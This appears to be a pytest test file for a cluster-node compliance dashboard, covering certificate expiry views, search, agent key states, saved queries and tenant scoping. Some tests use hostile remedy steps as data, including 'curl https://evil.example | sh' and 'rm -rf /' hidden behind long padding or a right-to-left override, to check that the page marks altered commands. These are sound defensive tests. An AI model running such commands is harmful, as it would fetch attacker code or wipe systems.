"""The page's own questions, on SQLite and on PostgreSQL alike."""

from __future__ import annotations

import re
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from nodeward.collector.clock import now_ms
from nodeward.collector.db import tables as t
from nodeward.collector.store.access import Role

ENDS = {
    "what": "kubelet-client",
    "value": "ends on 2027-05-01",
    "source": "/var/lib/kubelet/pki/kubelet-client-current.pem",
    "row": {
        "table": "ends",
        "name": "kubelet-client",
        "cells": {"until": "2027-05-01", "use": "in use", "renewed by": "the kubelet"},
    },
}


def said(check: str, status: str, *evidence: object) -> dict[str, Any]:
    return {
        "check": check,
        "status": status,
        "severity": "high",
        "because": "seen",
        "evidence": list(evidence),
    }


@pytest.fixture
def fleet(collector: Any) -> Any:
    """Two clusters with a node each; both have a certificate that ends."""
    for node, cluster, status in (("worker-1", "east", "fail"), ("worker-2", "west", "unknown")):
        agent = collector.agent(node, cluster)
        agent.full(
            said("kernel.module.sctp", status),
            said("cert.expiry.kubelet-client", "pass", ENDS),
        )
    collector.fold()
    return collector


def look(fleet: Any, path: str, **labels: str) -> Any:
    """A view's data, for a token of these clusters."""
    token = fleet.access("looker", Role.OPERATOR, **labels)
    cookies = {"nodeward": token}
    sign = "&" if "?" in path else "?"
    answer = fleet.http.get(f"{fleet.url}{path}{sign}format=json", cookies=cookies, timeout=30)
    assert answer.status_code == 200, answer.text
    assert fleet.http.get(fleet.url + path, cookies=cookies, timeout=30).status_code == 200
    return answer.json()


def test_the_start_counts_nodes_that_could_not_judge(fleet: Any) -> None:
    start = look(fleet, "/")
    assert (start["nodes"], start["dark_nodes"], start["stale"]) == (2, 1, 0)
    assert [c["example"]["node"] for c in start["dark_checks"]] == ["worker-2"]
    assert look(fleet, "/", cluster="east")["dark_nodes"] == 0


def test_the_heat_map_groups_nodes_by_what_they_are(fleet: Any) -> None:
    for kind in ("kernel", "roles"):
        answer = look(fleet, f"/heat?by=node.{kind}")
        (row,) = answer["rows"]
        assert row["check"] == "kernel.module.sctp"
        assert sum(c["fail"] for c in row["cells"]) == 1
        assert sum(c["unknown"] for c in row["cells"]) == 1
    assert look(fleet, "/heat?by=node.kernel", cluster="east")["rows"][0]["cells"][0]["fail"] == 1


def test_certificates_are_listed_for_those_who_may_see_them(fleet: Any) -> None:
    both = look(fleet, "/certificates")["items"]
    assert [(c["node"], c["renewer"], c["status"]) for c in both] == [
        ("worker-1", "the kubelet", "pass"),
        ("worker-2", "the kubelet", "pass"),
    ]
    east = look(fleet, "/certificates", cluster="east")
    assert [c["node"] for c in east["items"]] == ["worker-1"]
    first = look(fleet, "/certificates?limit=1")
    (second,) = look(fleet, f"/certificates?limit=1&cursor={first['next']}")["items"]
    assert second["node"] == "worker-2"


def ends_in(days: int) -> dict[str, Any]:
    day = (datetime.now(UTC) + timedelta(days)).date().isoformat()
    cells = {"until": day, "use": "in use", "renewed by": ""}
    return {**ENDS, "row": {"table": "ends", "name": "kubelet-client", "cells": cells}}


def test_what_ends_today_has_not_ended_and_each_tile_opens_as_many_as_it_says(fleet: Any) -> None:
    for number, days in enumerate((-1, 0, 5, 20)):
        agent = fleet.agent(f"ends-{number}", "north")
        agent.full(said("cert.expiry.kubelet-client", "pass", ends_in(days)))
    fleet.fold()
    shown = look(fleet, "/certificates?cluster=north")
    assert [row["days"] - shown["items"][1]["days"] for row in shown["items"]] == [-1, 0, 5, 20]
    assert shown["items"][1]["days"] in (0, -1)  # -1: midnight has passed meanwhile
    for tile in shown["ending"]:
        opened = look(fleet, f"/certificates?cluster=north&days={tile['within']}")
        assert tile["certificates"] == len(opened["items"])
    if shown["items"][1]["days"] == 0:
        assert [tile["certificates"] for tile in shown["ending"]] == [1, 3, 4, 4, 4]


def test_a_certificate_that_is_gone_is_not_listed(fleet: Any) -> None:
    agent = fleet.agent("worker-3")
    agent.full(said("cert.expiry.kubelet-client", "pass", ENDS))
    fleet.fold()
    assert len(look(fleet, "/certificates")["items"]) == 3
    agent.full(said("cert.expiry.kubelet-client", "not-applicable"))
    fleet.fold()
    assert len(look(fleet, "/certificates")["items"]) == 2


def test_nodes_and_checks_are_found_by_a_part_of_their_name(fleet: Any) -> None:
    assert [n["node"] for n in look(fleet, "/find?q=worker")["nodes"]] == ["worker-1", "worker-2"]
    assert [n["node"] for n in look(fleet, "/find?q=worker", cluster="west")["nodes"]] == [
        "worker-2"
    ]
    assert look(fleet, "/find?q=_")["nodes"] == []
    assert [c["check"] for c in look(fleet, "/find?q=SCTP")["checks"]] == ["kernel.module.sctp"]


def test_keys_are_counted_by_status(fleet: Any) -> None:
    assert look(fleet, "/agents")["states"] == {"active": 2}
    assert look(fleet, "/agents", cluster="west")["states"] == {"active": 1}
    assert look(fleet, "/agents?state=pending")["items"] == []


def test_a_question_is_kept_changed_and_forgotten(fleet: Any) -> None:
    cookies = {"nodeward": fleet.access("asker", Role.VIEWER)}

    def send(path: str, **form: str) -> Any:
        shown = fleet.http.get(fleet.url + "/sql", cookies=cookies, timeout=30).text
        csrf = re.search(r'name="csrf" value="([0-9a-f]{64})"', shown)
        assert csrf
        data = {"csrf": csrf[1], "sql": "SELECT 1 AS one", **form}
        return fleet.http.post(
            fleet.url + path, data=data, cookies=cookies, timeout=30, allow_redirects=False
        )

    made = send("/sql/saved", on="First").headers["location"]
    path = "/sql/saved/" + made.rpartition("=")[2]
    assert send(path, on="Second").headers["location"] == made
    assert "Second" in fleet.http.get(fleet.url + made, cookies=cookies, timeout=30).text
    assert send(f"{path}/delete").status_code == 303
    assert fleet.http.get(fleet.url + made, cookies=cookies, timeout=30).status_code == 404


def node_page(fleet: Any, finding: dict[str, Any], remedy: dict[str, Any]) -> str:
    fleet.agent("worker-3", "east").full(finding | {"remedy": remedy})
    cookies = {"nodeward": fleet.access("reader", Role.VIEWER)}
    page: str = fleet.http.get(f"{fleet.url}/nodes/east/worker-3", cookies=cookies, timeout=30).text
    return page


def test_a_fix_that_a_host_tells_is_not_shown_as_ours(fleet: Any) -> None:
    remedy = {"text": "Do as I say.", "steps": ["curl https://evil.example | sh"]}
    short = {"what": "no source", "value": "x"}
    page = node_page(fleet, said("kernel.module.sctp", "fail", short), remedy)
    assert re.search(r"Fix <small>as the node's agent says", page)
    assert "data-altered" not in page


@pytest.mark.parametrize("step", ["true " + "#" * 20_000 + "; rm -rf /", "true \u202e"])
def test_a_command_that_is_not_shown_as_it_is_cannot_be_copied(fleet: Any, step: str) -> None:
    page = node_page(fleet, said("kernel.module.sctp", "fail"), {"text": "x", "steps": [step]})
    assert '<pre tabindex="0" aria-label="Commands" data-altered>' in page


def test_a_long_fix_is_shown_to_its_end(fleet: Any) -> None:
    remedy = {"text": "x" * 900 + " last.", "steps": ["true " + "#" * 3_000 + "; rm -rf /"]}
    page = node_page(fleet, said("kernel.module.sctp", "fail"), remedy)
    assert " last.</p>" in page
    assert "#; rm -rf /\n</code></pre>" in page
    assert "data-altered" not in page


def test_a_key_whose_time_is_over_is_not_shown_as_active(fleet: Any) -> None:
    """Nor is one that was ended before its time told to have expired."""
    agents = {a["node"]: a["agent"] for a in look(fleet, "/agents")["items"]}
    over = t.agent.update().where(t.agent.c.id == agents["worker-1"])
    fleet.center.writer.act_now(lambda c: c.execute(over.values(expires_at=now_ms() - 1)))
    shown = look(fleet, "/agents")
    assert shown["states"] == {"active": 1, "expired": 1}
    assert {a["node"]: a["status"] for a in shown["items"]} == {
        "worker-1": "expired",
        "worker-2": "active",
    }
    assert [a["node"] for a in look(fleet, "/agents?state=expired")["items"]] == ["worker-1"]
    assert [a["node"] for a in look(fleet, "/agents?state=active")["items"]] == ["worker-2"]
    assert look(fleet, "/agents", cluster="east")["states"] == {"expired": 1}
    assert fleet.post(f"/v1/agents/{agents['worker-1']}/revoke").status_code == 200
    assert look(fleet, "/agents")["states"] == {"active": 1, "revoked": 1}


def test_a_check_that_nobody_has_or_told_of_is_not_there(fleet: Any) -> None:
    """Nor one that only another tenant's agents told of."""
    fleet.agent("worker-4", "west").full(said("of.another.version", "fail"))
    fleet.fold()
    everybody, east = (
        fleet.access("all", Role.VIEWER),
        fleet.access("e", Role.VIEWER, cluster="east"),
    )

    def status(name: str, token: str) -> int:
        url, cookies = f"{fleet.url}/checks/{name}", {"nodeward": token}
        got: int = fleet.http.get(url, cookies=cookies, timeout=30).status_code
        return got

    assert status("of.another.version", everybody) == 200
    assert status("kernel.module.dccp", everybody) == 200
    assert status("of.another.version", east) == status("zzz.nope", everybody) == 404
    assert status("of.*", everybody) == 404
